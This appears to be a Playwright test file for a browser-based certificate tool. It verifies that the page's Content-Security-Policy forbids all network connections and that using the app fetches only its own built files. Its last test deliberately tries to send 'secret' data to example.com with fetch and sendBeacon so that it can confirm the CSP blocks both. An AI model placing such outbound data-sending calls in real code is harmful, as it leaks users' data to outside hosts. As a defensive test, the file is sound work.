/**
 * Nothing leaves the page: the built page carries its CSP first in <head>, forbidding every
 * connection; a tour of every flow requests only the app's own static files (the files in
 * dist/, by GET); and the CSP really blocks a connection the page tries to make.
 */
import { readdirSync, readFileSync } from 'node:fs';
import { join, relative } from 'node:path';
import { test as plain, type BrowserContext } from '@playwright/test';
import { test as base, expect } from './fixtures.ts';
import { InspectPage, opensslPki } from './pages/inspect-page.ts';
import { ExportPage } from './pages/export-page.ts';

const test = base.extend<{ inspect: InspectPage; exporter: ExportPage }>({
  inspect: async ({ page }, use) => {
    await use(new InspectPage(page));
  },
  exporter: async ({ page }, use) => {
    await use(new ExportPage(page));
  },
});

/** Every file of the production build, as a URL path under the app's base. */
function builtFiles(dir = 'dist'): Set<string> {
  const out = new Set<string>();
  const walk = (d: string) => {
    for (const e of readdirSync(d, { withFileTypes: true })) {
      if (e.isDirectory()) walk(join(d, e.name));
      else out.add(`/${relative('dist', join(d, e.name)).split('\\').join('/')}`);
    }
  };
  walk(dir);
  return out;
}

/** Record every request of the context (page, worker and service worker), as "METHOD url". */
function recordRequests(context: BrowserContext): string[] {
  const seen: string[] = [];
  context.on('request', (r) => seen.push(`${r.method()} ${r.url()}`));
  return seen;
}

test('the CSP is the first element of <head> and forbids every connection and foreign origin', async ({
  app,
  page,
}) => {
  await app.open();
  const csp = await page.evaluate(() => {
    const first = document.head.firstElementChild;
    return first?.getAttribute('http-equiv') === 'Content-Security-Policy' ? first.getAttribute('content') : null;
  });
  expect(csp, 'CSP meta as the first child of <head>').not.toBeNull();
  const directives = new Map(
    (csp ?? '').split(';').map((d): [string, string] => {
      const [name = '', ...values] = d.trim().split(/\s+/);
      return [name, values.join(' ')];
    }),
  );
  expect(directives.get('connect-src')).toBe("'none'");
  expect(directives.get('default-src')).toBe("'self'");
  expect(directives.get('object-src')).toBe("'none'");
  expect(csp).not.toMatch(/https?:|\*|unsafe-eval/);
});

test("a tour of every flow requests only the app's own static files", async ({
  app,
  context,
  inspect,
  exporter,
  cluster,
  baseURL,
}, info) => {
  const requests = recordRequests(context);
  const pki = opensslPki();
  await app.open();
  await cluster.create({ name: 'quiet', nodes: 'n1 10.4.0.1', clients: 'app', target: 'generic' });
  for (const view of ['Authorities', 'Issue', 'Sign CSR', 'Workspace'] as const) await app.goTo(view);
  await app.goTo('Inspect');
  await inspect.addFiles(['/etc/ssl/certs/ca-certificates.crt', pki.leaf, pki.root]);
  await inspect.pastePem(readFileSync(pki.leafKey, 'utf8'));
  await inspect.saveToWorkspace(/^Certificate: CN=node1/);
  await app.goTo('Export');
  await exporter.chooseItem('CN=node1 (certificate, with key)');
  await (await exporter.downloadPkcs12('keystore', 'quiet-pass')).saveAs(info.outputPath('q.p12'));
  await (await exporter.downloadBundle('quiet', 'kubernetes')).saveAs(info.outputPath('q.zip'));

  const origin = new URL(baseURL ?? '').origin;
  const base = new URL(baseURL ?? '').pathname.replace(/\/$/, '');
  const allowed = builtFiles();
  const foreign = requests.filter((r) => {
    const [method, url = ''] = r.split(' ');
    if (url.startsWith('blob:') || url.startsWith('data:')) return false;
    const u = new URL(url);
    const path = u.pathname.slice(base.length) || '/';
    return method !== 'GET' || u.origin !== origin || !(path === '/' || allowed.has(path));
  });
  expect(requests.length, 'the tour made requests at all').toBeGreaterThan(3);
  expect(foreign, 'requests other than GETs of the built files').toEqual([]);
});

// Plain Playwright test: the blocked attempt logs a CSP console error on purpose.
plain('the CSP blocks a connection the page itself tries to make', async ({ page, context }) => {
  const requests = recordRequests(context);
  // Every CSP violation, recorded from the start: the browser's word that it blocked a URL.
  await page.addInitScript(() => {
    const seen: string[] = [];
    Object.defineProperty(window, '__e2eCspViolations', { value: seen });
    document.addEventListener('securitypolicyviolation', (e) => seen.push(`${e.effectiveDirective} ${e.blockedURI}`));
  });
  const violations = () =>
    page.evaluate(() => [...(window as unknown as { __e2eCspViolations: string[] }).__e2eCspViolations]);
  await page.goto('./');
  const fetched = await page.evaluate(async () => {
    try {
      await fetch('https://example.com/leak', { method: 'POST', body: 'secret' });
      return 'sent';
    } catch {
      return 'blocked';
    }
  });
  expect(fetched).toBe('blocked');
  // sendBeacon's return value says nothing reliable: wait for the violation it must cause, then
  // check that no request went out (instead of waiting a fixed time for one that never comes).
  await page.evaluate(() => {
    try {
      navigator.sendBeacon('https://example.com/beacon', 'secret');
    } catch {
      // blocked
    }
  });
  await expect
    .poll(violations)
    .toEqual(
      expect.arrayContaining(['connect-src https://example.com/leak', 'connect-src https://example.com/beacon']),
    );
  expect(requests.filter((r) => r.includes('example.com'))).toEqual([]);
});
